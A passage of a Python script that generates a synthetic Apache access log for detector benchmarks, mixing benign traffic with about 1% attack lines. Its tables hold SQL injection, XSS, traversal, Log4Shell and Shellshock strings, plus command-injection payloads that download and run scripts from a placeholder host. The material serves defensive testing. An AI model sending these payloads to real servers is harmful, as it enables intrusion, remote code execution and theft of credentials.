#!/usr/bin/env python3
"""Write a deterministic, synthetic Apache *combined* access log for benchmarks.

The file is mostly benign traffic (static assets, pages with query strings, a skewed mix of a few
thousand clients, real browser and crawler User-Agents, realistic status proportions, timestamps
that increase with several lines per second) with about 1% attack lines spread through it: SQL
injection, XSS, path traversal, command injection, Log4Shell and Shellshock in the User-Agent,
scanner and bad-bot User-Agents, probes for sensitive files and admin pages, web shells, and bursts
of 401 and 404 answers from a few clients.

The same ``--lines`` and ``--seed`` always give a byte-identical file; ``--self-check`` proves it on
a short sample and the SHA-256 printed at the end lets two runs be compared. Client addresses come
from ranges reserved for documentation and benchmarking (RFC 2544, RFC 5737, RFC 3849), so no real
host is named. Pure standard library.

Usage: ``gen_access_log.py [--lines N] [--seed S] [--labels FILE] [--self-check] OUT``
"""

from __future__ import annotations

import argparse
import hashlib
import heapq
import io
import itertools
import random
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import TextIO

__all__ = ["LogLine", "file_sha256", "generate", "main", "write_log"]

# 2026-03-01T00:00:00Z: a fixed origin keeps the file independent of the day it is made.
_START_EPOCH = 1_772_323_200
_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
# Mean gap between two lines, in seconds: about five lines per second.
_MEAN_GAP_SECS = 0.2
# Share of *events* that start an attack; bursts emit several lines per event, which brings the
# share of attack *lines* to about 1%.
_ATTACK_EVENT_RATE = 0.0038
_CHUNK = 8192

_SITE = "https://www.example.com"


@dataclass(frozen=True, slots=True)
class LogLine:
    """One request, before it is rendered in combined format."""

    ip: str
    method: str
    target: str
    status: int
    size: int
    agent: str
    user: str = "-"
    referer: str = "-"
    protocol: str = "HTTP/1.1"


# --------------------------------------------------------------------------------------------
# Benign traffic
# --------------------------------------------------------------------------------------------

_BROWSERS: tuple[tuple[str, float], ...] = (
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/122.0.0.0 Safari/537.36",
        14.0,
    ),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/121.0.0.0 Safari/537.36",
        8.0,
    ),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/122.0.0.0 Safari/537.36 Edg/122.0.2365.66",
        5.0,
    ),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:123.0) Gecko/20100101 Firefox/123.0",
        5.0,
    ),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0",
        1.5,
    ),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/122.0.0.0 Safari/537.36",
        6.0,
    ),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/17.3.1 Safari/605.1.15",
        5.0,
    ),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.3; rv:123.0) Gecko/20100101 Firefox/123.0",
        1.5,
    ),
    (
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/122.0.0.0 Safari/537.36",
        2.0,
    ),
    ("Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0", 1.0),
    ("Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0", 0.5),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3_1 like Mac OS X) AppleWebKit/605.1.15 "
        "(KHTML, like Gecko) Version/17.3.1 Mobile/15E148 Safari/604.1",
        10.0,
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 16_7_5 like Mac OS X) AppleWebKit/605.1.15 "
        "(KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1",
        3.0,
    ),
    (
        "Mozilla/5.0 (iPad; CPU OS 17_3_1 like Mac OS X) AppleWebKit/605.1.15 "
        "(KHTML, like Gecko) Version/17.3.1 Mobile/15E148 Safari/604.1",
        2.0,
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 "
        "(KHTML, like Gecko) CriOS/122.0.6261.89 Mobile/15E148 Safari/604.1",
        1.5,
    ),
    (
        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/122.0.0.0 Mobile Safari/537.36",
        9.0,
    ),
    (
        "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/122.0.6261.105 Mobile Safari/537.36",
        2.0,
    ),
    (
        "Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-A536B) AppleWebKit/537.36 "
        "(KHTML, like Gecko) SamsungBrowser/23.0 Chrome/115.0.0.0 Mobile Safari/537.36",
        1.5,
    ),
    ("Mozilla/5.0 (Android 14; Mobile; rv:123.0) Gecko/123.0 Firefox/123.0", 0.7),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/122.0.0.0 Safari/537.36 OPR/107.0.0.0",
        0.8,
    ),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/120.0.0.0 YaBrowser/24.1.0.0 Safari/537.36",
        0.4,
    ),
    (
        "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/109.0.0.0 Safari/537.36",
        0.6,
    ),
    (
        "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/122.0.0.0 Safari/537.36",
        0.6,
    ),
    ("Mozilla/5.0 (Windows NT 10.0; Trident/7.0; rv:11.0) like Gecko", 0.2),
)

_BOTS: tuple[tuple[str, float], ...] = (
    (
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        4.0,
    ),
    (
        "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Chrome/122.0.6261.94 Mobile Safari/537.36 "
        "(compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        2.0,
    ),
    ("Googlebot-Image/1.0", 0.5),
    ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", 2.5),
    ("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", 1.0),
    ("DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)", 0.4),
    (
        "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
        0.6,
    ),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 "
        "(KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; "
        "+http://www.apple.com/go/applebot)",
        0.5,
    ),
    ("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", 1.5),
    ("Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)", 1.2),
    ("Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)", 0.4),
    ("Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot)", 0.3),
    (
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        0.5,
    ),
    ("Twitterbot/1.0", 0.2),
    ("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", 0.2),
    (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.0; "
        "+https://openai.com/gptbot)",
        0.4,
    ),
    ("Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", 0.5),
    ("curl/8.5.0", 0.3),
    ("python-requests/2.31.0", 0.3),
    ("Go-http-client/1.1", 0.2),
    ("Wget/1.21.4", 0.1),
    ("feedparser/6.0.11 +https://github.com/kurtmckee/feedparser/", 0.1),
    ("Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers; )", 0.1),
    ("Mozilla/5.0 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)", 0.3),
)

# (path, typical bytes, weight, kind). kind: "asset" (cacheable), "page", "query", "post".
_PATHS: tuple[tuple[str, int, float, str], ...] = (
    ("/", 18_342, 30.0, "page"),
    ("/favicon.ico", 1_150, 12.0, "asset"),
    ("/robots.txt", 312, 2.0, "asset"),
    ("/sitemap.xml", 24_880, 1.0, "asset"),
    ("/static/css/main.css", 48_211, 20.0, "asset"),
    ("/static/css/vendor.min.css", 121_640, 12.0, "asset"),
    ("/static/css/print.css", 2_310, 2.0, "asset"),
    ("/static/js/app.js", 88_431, 18.0, "asset"),
    ("/static/js/vendor.min.js", 310_522, 12.0, "asset"),
    ("/static/js/analytics.js", 9_804, 10.0, "asset"),
    ("/static/js/search.js", 6_112, 3.0, "asset"),
    ("/static/js/cart.js", 12_040, 3.0, "asset"),
    ("/static/fonts/inter-regular.woff2", 98_104, 6.0, "asset"),
    ("/static/fonts/inter-bold.woff2", 101_660, 5.0, "asset"),
    ("/static/img/logo.svg", 4_821, 15.0, "asset"),
    ("/static/img/hero.jpg", 241_330, 8.0, "asset"),
    ("/static/img/hero@2x.jpg", 612_004, 3.0, "asset"),
    ("/static/img/icons/cart.svg", 910, 6.0, "asset"),
    ("/static/img/icons/search.svg", 744, 6.0, "asset"),
    ("/static/img/icons/user.svg", 802, 6.0, "asset"),
    ("/static/img/products/p-1001.jpg", 54_200, 2.0, "asset"),
    ("/static/img/products/p-1002.jpg", 61_874, 2.0, "asset"),
    ("/static/img/products/p-1003.jpg", 48_112, 2.0, "asset"),
    ("/static/img/products/p-1004.jpg", 70_311, 1.5, "asset"),
    ("/static/img/products/p-1005.jpg", 39_996, 1.5, "asset"),
    ("/static/img/products/p-1006.webp", 22_460, 1.5, "asset"),
    ("/static/img/products/p-1007.webp", 25_018, 1.0, "asset"),
    ("/static/img/products/p-1008.webp", 19_804, 1.0, "asset"),
    ("/static/img/blog/cover-01.webp", 88_300, 1.0, "asset"),
    ("/static/img/blog/cover-02.webp", 91_220, 1.0, "asset"),
    ("/static/img/blog/cover-03.webp", 79_450, 1.0, "asset"),
    ("/apple-touch-icon.png", 7_210, 1.5, "asset"),
    ("/manifest.webmanifest", 512, 1.0, "asset"),
    ("/about", 12_104, 2.0, "page"),
    ("/about/team", 15_660, 0.6, "page"),
    ("/about/careers", 11_802, 0.5, "page"),
    ("/contact", 9_410, 1.5, "page"),
    ("/pricing", 16_330, 2.0, "page"),
    ("/faq", 21_072, 1.0, "page"),
    ("/terms", 30_551, 0.3, "page"),
    ("/privacy", 28_930, 0.4, "page"),
    ("/blog", 22_801, 3.0, "page"),
    ("/blog/feed.xml", 44_120, 1.5, "page"),
    ("/blog/2026/01/shipping-faster-builds", 25_110, 1.0, "page"),
    ("/blog/2026/01/caching-at-the-edge", 27_940, 0.9, "page"),
    ("/blog/2026/02/postgres-upgrade-notes", 31_200, 0.8, "page"),
    ("/blog/2026/02/on-call-without-tears", 24_400, 0.7, "page"),
    ("/blog/2026/02/our-new-warehouse", 19_880, 0.6, "page"),
    ("/blog/2025/12/year-in-review", 35_010, 0.5, "page"),
    ("/blog/2025/11/black-friday-postmortem", 29_760, 0.4, "page"),
    ("/docs", 14_224, 1.5, "page"),
    ("/docs/getting-started", 26_880, 1.2, "page"),
    ("/docs/installation", 22_310, 0.9, "page"),
    ("/docs/configuration", 38_420, 0.8, "page"),
    ("/docs/api", 51_330, 0.7, "page"),
    ("/docs/api/authentication", 18_204, 0.4, "page"),
    ("/docs/api/webhooks", 16_773, 0.3, "page"),
    ("/docs/troubleshooting", 20_455, 0.4, "page"),
    ("/docs/changelog", 61_002, 0.3, "page"),
    ("/products", 33_870, 5.0, "page"),
    ("/products/new", 29_102, 1.0, "page"),
    ("/products/sale", 27_555, 1.2, "page"),
    ("/cart", 8_120, 2.0, "page"),
    ("/checkout", 10_245, 0.8, "page"),
    ("/checkout/success", 6_330, 0.3, "page"),
    ("/account", 11_560, 1.0, "page"),
    ("/account/orders", 14_880, 0.6, "page"),
    ("/account/settings", 9_770, 0.3, "page"),
    ("/login", 7_402, 1.5, "page"),
    ("/register", 8_010, 0.4, "page"),
    ("/logout", 0, 0.3, "page"),
    ("/newsletter/confirm", 3_120, 0.1, "page"),
    ("/health", 2, 1.0, "page"),
    ("/search", 19_330, 4.0, "query"),
    ("/products/view", 24_402, 8.0, "query"),
    ("/products/category", 30_104, 3.0, "query"),
    ("/blog/tag", 18_220, 0.8, "query"),
    ("/blog/page", 21_600, 0.8, "query"),
    ("/shop/list", 27_014, 1.5, "query"),
    ("/go", 0, 0.4, "query"),
    ("/api/v1/products", 4_880, 4.0, "query"),
    ("/api/v1/products/stock", 310, 2.0, "query"),
    ("/api/v1/search/suggest", 1_204, 3.0, "query"),
    ("/api/v1/cart", 960, 2.0, "query"),
    ("/api/v1/reviews", 3_770, 1.0, "query"),
    ("/api/v1/geo", 220, 0.8, "query"),
    ("/img/resize", 18_330, 1.0, "query"),
    ("/track/pixel.gif", 43, 4.0, "query"),
    ("/api/v1/events", 2, 3.0, "post"),
    ("/api/v1/cart/items", 412, 1.0, "post"),
    ("/login/submit", 0, 0.5, "post"),
    ("/contact/send", 0, 0.1, "post"),
    ("/newsletter/subscribe", 98, 0.2, "post"),
    ("/checkout/pay", 0, 0.2, "post"),
    ("/api/v1/session/refresh", 188, 0.8, "post"),
    ("/old-home", 0, 0.3, "redirect"),
    ("/shop", 0, 0.6, "redirect"),
    ("/blog/index.php", 0, 0.2, "redirect"),
    ("/products/index.html", 0, 0.2, "redirect"),
)

_SEARCH_WORDS = (
    "shoes", "running+shoes", "backpack", "usb-c+cable", "coffee", "mug", "gift+card", "jacket",
    "rain+jacket", "socks", "headphones", "laptop+sleeve", "water+bottle", "t-shirt", "hoodie",
    "notebook", "desk+lamp", "charger", "sale", "black+friday", "caf%C3%A9", "gr%C3%B6%C3%9Fe",
)  # fmt: skip
_CATEGORIES = ("outdoor", "kitchen", "apparel", "electronics", "office", "gifts", "home", "kids")
_SORTS = ("price_asc", "price_desc", "newest", "popular", "rating")
_UTM_SOURCES = ("newsletter", "google", "facebook", "twitter", "partner", "instagram")

_EXTERNAL_REFERERS = (
    "https://www.google.com/",
    "https://www.google.de/",
    "https://www.bing.com/",
    "https://duckduckgo.com/",
    "https://t.co/",
    "https://www.facebook.com/",
    "https://news.ycombinator.com/",
    "https://www.reddit.com/",
)


# --------------------------------------------------------------------------------------------
# Attack traffic
# --------------------------------------------------------------------------------------------

_ATTACK_BROWSER = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/90.0.4430.85 Safari/537.36"
)

_SQLI = (
    "/products/view?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-",
    "/products/view?id=1+UNION+ALL+SELECT+NULL,NULL,concat(user(),0x3a,version())--",
    "/products/view?id=1%27%20OR%20%271%27=%271",
    "/search?q=%27%20OR%201=1--",
    "/products/category?cat=1%20AND%20SLEEP(5)",
    "/products/view?id=1;WAITFOR%20DELAY%20%270:0:5%27--",
    "/api/v1/products?id=1%20AND%201=CONVERT(int,(SELECT%20@@version))",
    "/search?q=x%22%20AND%20extractvalue(1,concat(0x7e,(SELECT%20database())))--",
    "/shop/list?sort=(SELECT%20table_name%20FROM%20information_schema.tables%20LIMIT%201)",
    "/products/view?id=-1%27%20union%20select%201,2,group_concat(table_name)%20from%20"
    "information_schema.tables--+",
    "/login?user=admin%27--&pass=x",
    "/products/view?id=1%27)%20AND%20(SELECT%204821%20FROM%20(SELECT(SLEEP(5)))abc)--",
)
_XSS = (
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/search?q=<script>alert(document.cookie)</script>",
    "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
    "/blog/tag?t=%3Csvg/onload=alert(%27xss%27)%3E",
    "/go?url=javascript:alert(1)",
    "/products/view?id=1%22%3E%3Ciframe%20src=javascript:alert(1)%3E",
    "/search?q=%3Cbody%20onload%3Dalert(1)%3E",
    "/contact?name=%3CScRiPt%3Eprompt(1)%3C%2FsCrIpT%3E",
)
_TRAVERSAL = (
    "/download?file=../../../../etc/passwd",
    "/img/resize?src=..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/static/..%252f..%252f..%252f..%252fetc/passwd",
    "/static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/shadow",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/page?file=....//....//....//etc/passwd",
    "/download?file=..%5c..%5c..%5cwindows%5cwin.ini",
    "/view?template=%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
)
_COMMAND = (
    "/cgi-bin/ping.cgi?host=127.0.0.1;id",
    "/api/v1/geo?ip=8.8.8.8%7Ccat%20/etc/passwd",
    "/tools/lookup?domain=example.com%3B%20wget%20http://203.0.113.66/x.sh%20-O%20/tmp/x.sh",
    "/cgi-bin/status?q=$(curl%20http://203.0.113.66/a|sh)",
    "/api/v1/geo?ip=%60id%60",
    "/shell?cd+/tmp;wget+http://203.0.113.66/m.arm7;chmod+777+m.arm7;./m.arm7",
    "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.66/"
    "Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array"
    "&vars[0]=system&vars[1][]=id",
)
_LOG4SHELL_UA = (
    "${jndi:ldap://203.0.113.77:1389/Exploit}",
    "${jndi:ldap://198.51.100.23/a}",
    "${${lower:j}ndi:${lower:l}dap://203.0.113.77/x}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.23/o}",
    "Mozilla/5.0 ${jndi:dns://203.0.113.77/callback}",
)
_LOG4SHELL_PATHS = ("/", "/login", "/api/v1/products", "/?x=${jndi:ldap://203.0.113.77/a}")
_SHELLSHOCK_UA = (
    "() { :; }; /bin/bash -c 'cat /etc/passwd'",
    "() { :;}; echo; /bin/uname -a",
    "() { ignored; }; echo Content-Type: text/plain ; echo ; echo ; /usr/bin/id",
    '() { :; }; /bin/bash -c \\"wget http://203.0.113.66/bot -O /tmp/b\\"',
)
_SHELLSHOCK_PATHS = ("/cgi-bin/status", "/cgi-bin/test.cgi", "/cgi-bin/bash", "/cgi-bin/test-cgi")
_SCANNER_UA = (
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000578)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "WPScan v3.8.25 (https://wpscan.com/wpscan)",
    "gobuster/3.6",
    "Mozilla/5.0 zgrab/0.x",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Fuzz Faster U Fool v2.1.0",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
)
_BAD_BOT_UA = (
    "EmailCollector",
    "Atomic_Email_Hunter/4.0",
    "Mozilla/5.0 Jorgee",
    "ExtractorPro",
    "EmailSiphon",
)
_SENSITIVE = (
    "/.env",
    "/.env.production",
    "/.git/config",
    "/.git/HEAD",
    "/.svn/entries",
    "/.htpasswd",
    "/.htaccess",
    "/wp-config.php.bak",
    "/config.php~",
    "/backup.sql",
    "/db.sql.gz",
    "/.DS_Store",
    "/server-status",
    "/.aws/credentials",
    "/id_rsa",
    "/phpinfo.php",
)
_ADMIN = (
    "/phpmyadmin/",
    "/phpMyAdmin/index.php",
    "/pma/",
    "/wp-admin/",
    "/wp-login.php",
    "/administrator/",
    "/manager/html",
    "/solr/admin/",
    "/admin/",
    "/admin/login.php",
    "/user/login",
    "/adminer.php",
)
_WEBSHELL = (
    ("GET", "/uploads/shell.php?cmd=id"),
    ("GET", "/c99.php"),
    ("GET", "/r57.php"),
    ("GET", "/wp-content/uploads/2026/02/x.php?cmd=whoami"),
    ("POST", "/wp-content/plugins/hello.php"),
    ("GET", "/images/up.php?cmd=uname%20-a"),
    ("POST", "/tunnel.jsp?cmd=connect&target=10.0.0.5&port=22"),
    ("GET", "/wso.php"),
    ("POST", "/uploads/cmd.php"),
)
_EXTRA = (
    # Categories beyond the brief's list, so a detector is exercised on them too.
    ("GET", "/page?file=php://filter/convert.base64-encode/resource=index.php", 200),
    ("GET", "/index.php?page=http://203.0.113.66/shell.txt?", 200),
    ("GET", "/search?q={{7*7}}", 200),
    ("GET", "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", 200),
    ("GET", "/?class.module.classLoader.URLs[0]=0", 400),
    ("TRACE", "/", 405),
    ("PROPFIND", "/", 405),
)
_PROBE_404 = (
    "/admin.php", "/test.php", "/old/", "/backup/", "/bak/", "/site.zip", "/www.zip", "/dump.sql",
    "/config.json", "/api/.env", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/luci", "/boaform/admin/formLogin", "/HNAP1/", "/actuator/health", "/console/",
    "/xmlrpc.php", "/wp-includes/wlwmanifest.xml", "/owa/auth/logon.aspx", "/remote/login",
    "/jenkins/login", "/.well-known/security.txt", "/temp/", "/install.php", "/setup.php",
    "/database.yml", "/storage/logs/laravel.log", "/debug/default/view", "/solr/", "/telescope",
)  # fmt: skip
_USERS = ("admin", "root", "test", "administrator", "user", "guest", "webmaster", "oracle")


@dataclass(slots=True)
class _Ctx:
    """Shared pools and state for one generation run."""

    rng: random.Random
    clients: list[str]
    client_cum: list[float]
    client_agent: dict[str, str]
    attackers: list[str]


_Attack = Callable[[_Ctx], list[LogLine]]


def _attack_sqli(c: _Ctx) -> list[LogLine]:
    r = c.rng
    status = r.choice((200, 200, 500, 403))
    return [LogLine(r.choice(c.attackers), "GET", r.choice(_SQLI), status, r.randint(200, 9_000),
                 _ATTACK_BROWSER)]  # fmt: skip


def _attack_xss(c: _Ctx) -> list[LogLine]:
    r = c.rng
    status = r.choice((200, 200, 400))
    return [LogLine(r.choice(c.attackers), "GET", r.choice(_XSS), status, r.randint(300, 20_000),
                 _ATTACK_BROWSER)]  # fmt: skip


def _attack_traversal(c: _Ctx) -> list[LogLine]:
    r = c.rng
    status = r.choice((400, 404, 404, 200))
    return [LogLine(r.choice(c.attackers), "GET", r.choice(_TRAVERSAL), status,
                 r.randint(200, 1_200), "curl/7.88.1")]  # fmt: skip


def _attack_command(c: _Ctx) -> list[LogLine]:
    r = c.rng
    status = r.choice((404, 400, 200))
    agent = r.choice(("Mozilla/5.0", "Hello, World", "-"))
    return [LogLine(r.choice(c.attackers), "GET", r.choice(_COMMAND), status, r.randint(200, 600),
                 agent)]  # fmt: skip


def _attack_log4shell(c: _Ctx) -> list[LogLine]:
    r = c.rng
    return [LogLine(r.choice(c.attackers), "GET", r.choice(_LOG4SHELL_PATHS), 200,
                 r.randint(5_000, 19_000), r.choice(_LOG4SHELL_UA))]  # fmt: skip


def _attack_shellshock(c: _Ctx) -> list[LogLine]:
    r = c.rng
    status = r.choice((404, 404, 500))
    return [LogLine(r.choice(c.attackers), "GET", r.choice(_SHELLSHOCK_PATHS), status,
                 r.randint(200, 500), r.choice(_SHELLSHOCK_UA))]  # fmt: skip


def _attack_scanner(c: _Ctx) -> list[LogLine]:
    r = c.rng
    ip, agent = r.choice(c.attackers), r.choice(_SCANNER_UA)
    return [LogLine(ip, r.choice(("GET", "GET", "HEAD")), r.choice(_PROBE_404 + _ADMIN),
                 r.choice((404, 404, 404, 403)), r.randint(150, 500), agent)
            for _ in range(r.randint(3, 12))]  # fmt: skip


def _attack_bad_bot(c: _Ctx) -> list[LogLine]:
    r = c.rng
    ip, agent = r.choice(c.attackers), r.choice(_BAD_BOT_UA)
    pages = ("/", "/contact", "/about", "/about/team", "/blog")
    return [LogLine(ip, "GET", r.choice(pages), 200, r.randint(8_000, 20_000), agent)
            for _ in range(r.randint(1, 4))]  # fmt: skip


def _attack_sensitive(c: _Ctx) -> list[LogLine]:
    r = c.rng
    ip = r.choice(c.attackers)
    agent = r.choice((_ATTACK_BROWSER, "python-requests/2.28.1"))
    return [LogLine(ip, "GET", r.choice(_SENSITIVE), r.choice((404, 404, 403, 200)),
                 r.randint(150, 600), agent)
            for _ in range(r.randint(1, 4))]  # fmt: skip


def _attack_admin(c: _Ctx) -> list[LogLine]:
    r = c.rng
    ip = r.choice(c.attackers)
    return [LogLine(ip, "GET", r.choice(_ADMIN), r.choice((404, 404, 403, 301)),
                 r.randint(150, 600), _ATTACK_BROWSER)
            for _ in range(r.randint(1, 3))]  # fmt: skip


def _attack_webshell(c: _Ctx) -> list[LogLine]:
    r = c.rng
    method, target = r.choice(_WEBSHELL)
    return [LogLine(r.choice(c.attackers), method, target, r.choice((404, 404, 200)),
                 r.randint(150, 3_000), r.choice((_ATTACK_BROWSER, "-")))]  # fmt: skip


def _attack_extra(c: _Ctx) -> list[LogLine]:
    r = c.rng
    method, target, status = r.choice(_EXTRA)
    return [LogLine(r.choice(c.attackers), method, target, status, r.randint(200, 900),
                 _ATTACK_BROWSER)]  # fmt: skip


def _attack_auth_burst(c: _Ctx) -> list[LogLine]:
    r = c.rng
    # A few fixed addresses do the brute force, as in real incidents.
    ip = c.attackers[r.randrange(4)]
    target = r.choice(("/admin/", "/account", "/api/v1/session/refresh"))
    agent = r.choice(("python-requests/2.31.0", "Hydra", _ATTACK_BROWSER))
    return [LogLine(ip, "GET", target, 401, 381, agent, r.choice(_USERS))
            for _ in range(r.randint(15, 60))]  # fmt: skip


def _attack_404_burst(c: _Ctx) -> list[LogLine]:
    r = c.rng
    ip = r.choice(c.attackers)
    agent = r.choice((_ATTACK_BROWSER, "Mozilla/5.0", "-"))
    return [LogLine(ip, "GET", r.choice(_PROBE_404), 404, r.randint(196, 320), agent)
            for _ in range(r.randint(20, 70))]  # fmt: skip


# (name, weight, generator): weights are per *event*; bursts carry many lines each.
_ATTACKS: tuple[tuple[str, float, _Attack], ...] = (
    ("sqli", 12.0, _attack_sqli),
    ("xss", 10.0, _attack_xss),
    ("path-traversal", 9.0, _attack_traversal),
    ("command-injection", 7.0, _attack_command),
    ("log4shell", 5.0, _attack_log4shell),
    ("shellshock", 4.0, _attack_shellshock),
    ("scanner", 6.0, _attack_scanner),
    ("bad-bot", 3.0, _attack_bad_bot),
    ("sensitive-file", 12.0, _attack_sensitive),
    ("admin-probe", 10.0, _attack_admin),
    ("webshell", 6.0, _attack_webshell),
    ("other", 5.0, _attack_extra),
    ("brute-force", 1.0, _attack_auth_burst),
    ("404-burst", 1.0, _attack_404_burst),
)


# --------------------------------------------------------------------------------------------
# Generation
# --------------------------------------------------------------------------------------------


def _client_pool(rng: random.Random, count: int) -> list[str]:
    """Distinct client addresses: RFC 2544 IPv4 with about 8% RFC 3849 IPv6."""
    seen: set[str] = set()
    pool: list[str] = []
    while len(pool) < count:
        if rng.random() < 0.08:
            ip = f"2001:db8:{rng.randrange(1, 0xFFFF):x}::{rng.randrange(1, 0xFFFF):x}"
        else:
            ip = f"198.{rng.randrange(18, 20)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
        if ip not in seen:
            seen.add(ip)
            pool.append(ip)
    return pool


def _attacker_pool(rng: random.Random) -> list[str]:
    """A few dozen attacking addresses from the RFC 5737 documentation ranges."""
    pool = [f"203.0.113.{n}" for n in rng.sample(range(2, 255), 24)]
    pool += [f"192.0.2.{n}" for n in rng.sample(range(2, 255), 16)]
    return pool


def _make_context(rng: random.Random, n_clients: int) -> _Ctx:
    clients = _client_pool(rng, n_clients)
    # Zipf-like: a handful of clients (offices, NATs, crawlers) make a large share of the traffic.
    cum: list[float] = list(
        itertools.accumulate(1.0 / (rank**0.95) for rank in range(1, 1 + n_clients))
    )
    browsers = [a for a, _ in _BROWSERS]
    browser_w = [w for _, w in _BROWSERS]
    bots = [a for a, _ in _BOTS]
    bot_w = [w for _, w in _BOTS]
    agents: dict[str, str] = {}
    for ip in clients:
        if rng.random() < 0.12:
            agents[ip] = rng.choices(bots, bot_w)[0]
        else:
            agents[ip] = rng.choices(browsers, browser_w)[0]
    return _Ctx(rng, clients, cum, agents, _attacker_pool(rng))


def _query(rng: random.Random, path: str) -> str:
    """A realistic query string for a path of kind "query"."""
    if path in ("/search", "/api/v1/search/suggest"):
        q = f"q={rng.choice(_SEARCH_WORDS)}"
        return q + (f"&page={rng.randint(2, 6)}" if rng.random() < 0.2 else "")
    if path in ("/products/view", "/api/v1/products/stock", "/api/v1/reviews"):
        q = f"id={rng.randint(1001, 1480)}"
        if rng.random() < 0.15:
            q += f"&utm_source={rng.choice(_UTM_SOURCES)}&utm_medium=email&utm_campaign=spring26"
        return q
    if path in ("/products/category", "/shop/list", "/api/v1/products"):
        q = f"cat={rng.choice(_CATEGORIES)}"
        if rng.random() < 0.4:
            q += f"&sort={rng.choice(_SORTS)}"
        if rng.random() < 0.3:
            q += f"&page={rng.randint(2, 12)}"
        return q
    if path == "/blog/tag":
